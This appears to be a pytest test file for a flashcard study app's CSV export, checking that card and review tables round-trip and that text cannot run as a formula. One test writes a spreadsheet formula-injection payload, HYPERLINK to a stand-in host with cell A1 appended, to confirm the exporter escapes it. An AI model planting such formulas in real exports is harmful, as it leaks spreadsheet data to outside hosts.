"""The tables read back as they were written, and no text in them runs as a formula."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import datetime, timedelta

import pytest

from content.schema import Deck
from study.exporting.entries import entries
from study.exporting.table import CONTENT, cards_csv, reviews_csv
from study.scheduling import Rating
from study.store import Store


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_the_cards_read_back(
    small: Deck, store: Store, now: datetime, answer: Callable[..., None], tmp_path: object
) -> None:
    answer(store, "small/first", "a1", Rating.GOOD)
    answer(store, "small/first", "a2", Rating.EASY, minutes=11)
    store.set_note("small/first", 'a "quoted", note;\nüber ≤ 🙂', now)
    answer(store, "gone/away", "a3")
    store.add("small/first/count", now)
    found = {row["item"]: row for row in rows(cards_csv([small], store.cards()).encode().decode("utf-8"))}
    by_entry = {entry.item_id: entry for entry in entries([small])}
    assert list(found) == [*by_entry, "small/first/count", "gone/away"]
    for item, entry in by_entry.items():
        assert (found[item]["front"].removeprefix("'"), found[item]["back"].removeprefix("'")) == (
            entry.front,
            entry.back,
        )
        assert (found[item]["kind"], found[item]["question"], found[item]["deck"]) == (entry.kind, "first", "small")
    card, row = store.card("small/first"), found["small/first"]
    assert card is not None
    assert float(row["stability_days"]) == card.memory.stability_days
    assert float(row["difficulty"]) == card.memory.difficulty
    assert datetime.fromisoformat(row["due"]) == card.memory.due
    assert datetime.fromisoformat(row["last_review"]) == now + timedelta(minutes=11)
    assert (row["state"], row["step"], row["reviews"], row["suspended"]) == ("review", "", "2", "false")
    assert row["note"] == 'a "quoted", note;\nüber ≤ 🙂'
    assert found["small/first/why-1"]["state"] == found["small/first/why-1"]["due"] == ""
    assert (found["small/first/count"]["kind"], found["small/first/count"]["reviews"]) == ("computed", "0")
    assert (found["gone/away"]["kind"], found["gone/away"]["reviews"]) == ("", "1")
    assert found["small/first"]["tags"] == "question 1; recall"
    assert found["small/first/say"]["tags"] == "question 1; typed; senior"


def test_the_log_reads_back(store: Store, now: datetime, answer: Callable[..., None]) -> None:
    for number in range(6):
        answer(store, f"d/q{number % 2}", f"a{number}", Rating(number % 4 + 1), minutes=number * 2000)
    reviews = store.reviews()
    found = rows(reviews_csv(reviews))
    assert len(found) == 6
    for row, review in zip(found, reviews, strict=True):
        assert row["answer_id"] == review.answer_id
        assert (int(row["rating"]), row["rating_name"]) == (review.rating, review.rating.name.lower())
        assert datetime.fromisoformat(row["reviewed_at"]) == review.reviewed_at
        assert float(row["duration_seconds"]) == 7.25
        assert (float(row["retrievability"]) if row["retrievability"] else None) == review.retrievability
        assert float(row["after_stability_days"]) == review.after.stability_days
        assert row["before_state"] == review.before.state
        assert json.loads(row["answered"]) == review.answered
        assert row["kind"] == "recall"
    assert rows(reviews_csv([])) == []


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r"])
def test_no_text_runs_as_a_formula(small: Deck, store: Store, now: datetime, start: str) -> None:
    text = f'{start}HYPERLINK("https://x.test/"&A1)'
    store.set_note("small/first", text, now)
    cells = [cell for row in csv.reader(io.StringIO(cards_csv([small], store.cards()), newline="")) for cell in row]
    assert "'" + text in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_lines_end_as_rfc_4180_has_it(small: Deck) -> None:
    text = cards_csv([small], [])
    assert text.startswith(",".join(CONTENT))
    assert text.split("\r\n")[0].count(",") + 1 == len(next(csv.reader(io.StringIO(text))))
    assert text.endswith("\r\n")
